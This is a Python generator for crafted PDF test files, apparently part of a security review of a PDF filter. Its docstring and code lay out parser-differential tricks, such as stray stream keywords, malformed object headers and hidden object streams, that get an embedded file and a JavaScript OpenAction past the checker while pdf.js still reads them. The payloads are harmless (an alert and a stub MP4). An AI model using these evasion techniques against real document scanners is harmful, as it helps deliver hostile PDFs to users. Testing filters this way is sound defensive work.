#!/usr/bin/env python3
"""Review 24 generator -> /tmp/rev24/pdfs/<variant>.pdf

Group S (no object stream, object 10 a Filespec with /EF at the top level):
  dict-kw   a bare keyword 'stream' (and 'endstream') standing as a junk key
            inside object 10's dictionary: pdfSyntax is at synTop (depth 1,
            which inText does not look at), so the check starts data there
            and /EF is exempt; pdf.js skips a non-name key.
  dict-val  the same as the value of a key (/Y stream).
  arr-kw    the same inside an array (/Y [ stream ]).
Group D (object 10 written inside stream 5's data, xref points at it):
  defcmt-*  "10 0%c<LF>obj": a comment between generation and obj; every
            reader's lexer skips it, pdfDefinitionAt does not (it looks for a
            digit behind white space only), so /EF stays exempt.
  defdot-*, defsign-*  "10 0. obj", "10 - obj": pdf.js's getNumber reads "0." and a
            lone "-" as 0 (the byte before obj is no digit for pdfDefinitionAt).
  reset-*   "10 0 obj << ... /X (endstream stream<LF>) /EF ... /Z (endstream) >>":
            the definition is seen, but the "endstream" inside the string
            ends the data (def forgotten, syntax reset to the top level) and
            the " stream<LF>" after it starts new data, in which /EF is exempt.
Group O (object stream hidden):
  objstm-str  object stream 5's dictionary says /Type /ObjStm /N /First, then
            /X (stream<LF>endstream), then /Length /Filter /FlateDecode. The
            string's "stream" starts pseudo data, its "endstream" ends it and
            forgets the dictionary (p.dict = {}), so the real data is never
            inflated. Members: 10 = JavaScript OpenAction, 11 = Filespec /EF.
  objstm-hex  the same with a hex string <stream<LF>endstream> (non-hex
            characters are ignored by viewers).
  objstm-arr  /X [ >> 1 0 obj ]: inside an array pdf.js takes ">>" and "obj" as
            elements; pdfSyntax closes the dictionary at ">>" (depth 0), so
            "1 0 obj" is a top-level object start and p.dict is reset.
  objstm-kw  /X stream<LF>endstream: bare keywords as a value and a junk key
            (pdf.js skips them), data starts and ends, p.dict is reset.
  objstm-ctl  control: no string (must be refused).
"""
import os, struct, sys, zlib

OUT = "/tmp/rev24/pdfs"
os.makedirs(OUT, exist_ok=True)
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"
SCREEN = (b"<< /Type /Annot /Subtype /Screen /Rect [ 0 0 100 100 ] /A << /S /Rendition /OP 0 "
          b"/R << /S /MR /C << /S /MCD /CT (video/mp4) /D 10 0 R >> >> >> >>")

S = {
    "dict-kw":  b"<< /Type /Filespec /F (a.mp4) /UF (a.mp4) stream\n/EF << /F 13 0 R >> endstream\n>>",
    "dict-val": b"<< /Type /Filespec /F (a.mp4) /UF (a.mp4) /Y stream\n/EF << /F 13 0 R >> /Z endstream\n>>",
    "arr-kw":   b"<< /Type /Filespec /F (a.mp4) /UF (a.mp4) /Y [ stream\n] /EF << /F 13 0 R >> /Z [ endstream ] >>",
    "dict-ctl": b"<< /Type /Filespec /F (a.mp4) /UF (a.mp4) /Y [ strea\n] /EF << /F 13 0 R >> /Z [ endstream ] >>",
}
D = {
    "defcmt": (b"10 0%c\nobj\n", b"<< /Type /Filespec /F (a.mp4) /UF (a.mp4) /EF << /F 13 0 R >> >>\nendobj\n"),
    "defdot": (b"10 0. obj\n", b"<< /Type /Filespec /F (a.mp4) /UF (a.mp4) /EF << /F 13 0 R >> >>\nendobj\n"),
    "defsign": (b"10 - obj\n", b"<< /Type /Filespec /F (a.mp4) /UF (a.mp4) /EF << /F 13 0 R >> >>\nendobj\n"),
    "reset":  (b"10 0 obj\n", b"<< /Type /Filespec /F (a.mp4) /UF (a.mp4) /X (endstream stream\n) /EF << /F 13 0 R >> /Z (endstream) >>\nendobj\n"),
}
DKIND = {
    "plain-tbl": (b"", "table"),
    "plain-xrs": (b"", "xrefstm"),
    "dct-tbl": (b"/Filter /DCTDecode /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Subtype /Image /Type /XObject ", "table"),
}
O = {
    "objstm-str": b"/X (stream\nendstream) ",
    "objstm-hex": b"/X <stream\nendstream> ",
    "objstm-arr": b"/X [ >> 1 0 obj ] ",
    "objstm-kw":  b"/X stream\nendstream ",
    "objstm-ctl": b"/X (strea\nendstrea) ",
}


class PDF:
    def __init__(self):
        self.b = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        self.off = {}   # num -> offset (type 1)
        self.cmp = {}   # num -> (stm, idx) (type 2)

    def obj(self, n, body):
        self.off[n] = len(self.b)
        self.b.extend(b"%d 0 obj\n" % n + body + b"\nendobj\n")

    def finish(self, xk, size, root=b"/Root 1 0 R"):
        b = self.b
        if xk == "table":
            x = len(b)
            b.extend(b"xref\n0 %d\n" % size)
            for n in range(size):
                b.extend(b"%010d 00000 n \n" % self.off[n] if n in self.off else b"0000000000 65535 f \n")
            b.extend(b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, x))
        else:
            xn = size - 1
            self.off[xn] = len(b)
            rows = bytearray()
            for n in range(size):
                if n in self.off:
                    rows += struct.pack(">BIH", 1, self.off[n], 0)
                elif n in self.cmp:
                    rows += struct.pack(">BIH", 2, self.cmp[n][0], self.cmp[n][1])
                else:
                    rows += struct.pack(">BIH", 0, 0, 65535 if n == 0 else 0)
            b.extend(b"%d 0 obj\n<< /Type /XRef /Size %d /W [ 1 4 2 ] %s /Length %d >>\nstream\n" % (xn, size, root, len(rows)))
            b.extend(rows + b"\nendstream\nendobj\n")
            b.extend(b"startxref\n%d\n%%%%EOF\n" % self.off[xn])
        return bytes(b)


def page_objs(p, annot=True, openaction=b""):
    p.obj(1, b"<< /Type /Catalog /Pages 2 0 R %s>>" % openaction)
    p.obj(2, b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>")
    p.obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 200 200 ] %s>>" % (b"/Annots [ 9 0 R ] " if annot else b""))


def build_s(v):
    p = PDF()
    page_objs(p)
    p.obj(9, SCREEN)
    p.obj(10, S[v])
    p.obj(13, b"<< /Length %d >>\nstream\n" % len(MP4) + MP4 + b"\nendstream")
    return p.finish("table", 14)


def build_d(v):
    kind, dk = v.split("-", 1)
    head10, body10 = D[kind]
    extra, xk = DKIND[dk]
    p = PDF()
    page_objs(p)
    payload = head10 + body10
    data = b"%% some bytes\n" + payload + b"%% more\n"
    off5 = len(p.b)
    head = b"5 0 obj\n<< /Length %d %s>>\nstream\n" % (len(data), extra)
    p.off[5] = off5
    p.off[10] = off5 + len(head) + data.index(head10)
    p.b.extend(head + data + b"\nendstream\nendobj\n")
    p.obj(9, SCREEN)
    p.obj(13, b"<< /Length %d >>\nstream\n" % len(MP4) + MP4 + b"\nendstream")
    return p.finish(xk, 15)


def build_o(v):
    p = PDF()
    page_objs(p, openaction=b"/OpenAction 10 0 R ")
    p.obj(9, SCREEN.replace(b"/D 10 0 R", b"/D 11 0 R"))
    members = [(10, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
               (11, b"<< /Type /Filespec /F (a.mp4) /UF (a.mp4) /EF << /F 13 0 R >> >>")]
    hdr, body = b"", b""
    for i, (n, m) in enumerate(members):
        hdr += b"%d %d " % (n, len(body))
        body += m + b"\n"
        p.cmp[n] = (5, i)
    z = zlib.compress(hdr + body, 9)
    p.obj(5, b"<< /Type /ObjStm /N %d /First %d %s/Length %d /Filter /FlateDecode >>\nstream\n"
          % (len(members), len(hdr), O[v], len(z)) + z + b"\nendstream")
    p.obj(13, b"<< /Length %d >>\nstream\n" % len(MP4) + MP4 + b"\nendstream")
    return p.finish("xrefstm", 15)


ALL = list(S) + ["%s-%s" % (k, d) for k in D for d in DKIND] + list(O)
for v in (sys.argv[1:] or ALL):
    f = build_s if v in S else build_o if v in O else build_d
    with open(os.path.join(OUT, v + ".pdf"), "wb") as fh:
        fh.write(f(v))
    print(v)
